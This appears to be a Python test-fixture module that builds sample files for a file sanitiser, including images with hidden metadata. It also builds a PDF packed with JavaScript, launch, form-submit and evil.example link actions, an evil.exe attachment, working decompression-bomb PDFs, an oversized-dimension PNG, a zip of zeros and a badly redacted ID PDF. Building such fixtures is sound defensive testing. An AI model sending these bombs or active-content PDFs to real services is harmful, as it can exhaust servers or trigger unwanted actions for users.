"""Files as people send them, and as those send them who mean harm: all made here, none kept as a file."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw, PngImagePlugin

NUMBER = "900101-1234568"


def picture(form: str = "JPEG", size: tuple[int, int] = (300, 200), **options: Any) -> bytes:
    """Red, with a blue upper left corner."""
    image = Image.new(options.pop("mode", "RGB"), size, "red")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 3, size[1] // 3), fill="blue")
    out = io.BytesIO()
    if form == "HEIF":
        pillow_heif.from_pillow(image).save(out, quality=90)
    else:
        image.save(out, form, **options)
    return out.getvalue()


def telling_picture(form: str = "JPEG") -> bytes:
    """A picture that tells place, camera and a comment, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees to the right
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    options: dict[str, Any] = {"exif": exif, "icc_profile": b"SecretProfile"}
    if form == "JPEG":
        options["comment"] = b"SecretComment"
    else:
        options["pnginfo"] = PngImagePlugin.PngInfo()
        options["pnginfo"].add_text("Comment", "SecretComment")
    return picture(form, **options)


def pdf(
    *pages: str,
    change: Callable[[Pdf], object] = lambda document: None,
    size: tuple[int, int] = (300, 200),
    **save: Any,
) -> bytes:
    """A PDF with a line of text on each page."""
    document = Pdf.new()
    font = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for text in pages or ("Hello",):
        page = document.add_blank_page(page_size=size)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = Stream(document, f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode())
    change(document)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def busy_pdf() -> bytes:
    """A PDF with every kind of thing that acts, hides or tells on somebody."""

    def fill(document: Pdf) -> None:
        root, page = document.Root, document.pages[0].obj
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('Evil')"))
        root.OpenAction = script
        root.AA = Dictionary(WC=script)
        root.Metadata = Stream(document, b"<x:xmpmeta>EvilMetadata</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
        root.PieceInfo = Dictionary(Evil=Dictionary(Private=String("EvilPrivate")))
        document.docinfo["/Author"] = "EvilAuthor"
        document.attachments["evil.exe"] = b"EvilAttachment"
        scripts = Array([String("x"), document.make_indirect(script)])
        root.Names.JavaScript = Dictionary(Names=scripts)
        root.OCProperties = Dictionary(OCGs=Array(), D=Dictionary())
        page.AA = Dictionary(O=script)
        page.Thumb = Stream(document, b"EvilThumb", Width=1, Height=1)
        rect = Array([10, 10, 90, 30])
        look = Stream(
            document, b"0 0 1 rg 0 0 80 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 20])
        )
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("EvilField"),
                V=String("EvilValue"),
                AA=Dictionary(K=script),
                Rect=rect,
                F=4,
                AP=Dictionary(N=look),
            )
        )
        actions = (
            Dictionary(S=Name.Launch, F=String("EvilProgram")),
            Dictionary(S=Name.URI, URI=String("http://evil.example/")),
            Dictionary(S=Name.SubmitForm, F=String("http://evil.example/submit")),
            Dictionary(S=Name.GoToR, F=String("EvilRemote")),
        )
        links = [
            document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action))
            for action in actions
        ]
        page.Annots = Array([field, *links])
        root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(document, b"<xdp>EvilXfa</xdp>"))
        page.Resources.XObject = Dictionary(
            Fx=Stream(
                document,
                b"",
                Type=Name.XObject,
                Subtype=Name.Form,
                BBox=Array([0, 0, 1, 1]),
                F=String("EvilFile"),
                Metadata=Stream(document, b"EvilInner"),
                PieceInfo=Dictionary(Evil=String("EvilPiece")),
            )
        )

    return pdf("Kept text", change=fill)


def bomb_pdf(*, layers: int = 1, megabytes: int = 300) -> bytes:
    """A PDF of some kilobytes whose page unpacks to hundreds of megabytes."""
    packed = zlib.compressobj(9)
    content = b"".join(packed.compress(b" " * 1_000_000) for _number in range(megabytes)) + packed.flush()
    for _layer in range(layers - 1):
        content = zlib.compress(content, 9)

    def fill(document: Pdf) -> None:
        filters = Array([Name.FlateDecode] * layers)
        stream = Stream(document, b"")
        stream.write(content, filter=filters)
        document.pages[0].Contents = stream

    return pdf(change=fill, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_with_picture(width: int, height: int) -> bytes:
    """A PDF that says it has a picture of this size."""

    def fill(document: Pdf) -> None:
        image = Stream(
            document,
            b"\0",
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            BitsPerComponent=1,
            ColorSpace=Name.DeviceGray,
        )
        document.pages[0].Resources = Dictionary(XObject=Dictionary(Im=image))
        document.pages[0].Contents = Stream(document, b"100 0 0 100 0 0 cm /Im Do")

    return pdf(change=fill)


def covered_pdf() -> bytes:
    """An ID card whose number, a picture, lies under a black bar that is drawn over it."""

    def fill(document: Pdf) -> None:
        page = document.pages[0]
        image = Stream(
            document,
            b"UnderTheBar!" * 100,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=20,
            Height=20,
            BitsPerComponent=8,
            ColorSpace=Name.DeviceRGB,
        )
        page.Resources.XObject = Dictionary(Im=image)
        page.Contents = Stream(document, b"q 100 0 0 50 20 20 cm /Im Do Q 0 g 20 20 100 50 re f")

    return pdf(change=fill, compress_streams=False)


def heic() -> bytes:
    return picture("HEIF")


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("zeros", b"\0" * 10_000_000)
    return out.getvalue()


def huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of some bytes that says it has 3,600 million pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + name + content + zlib.crc32(name + content).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
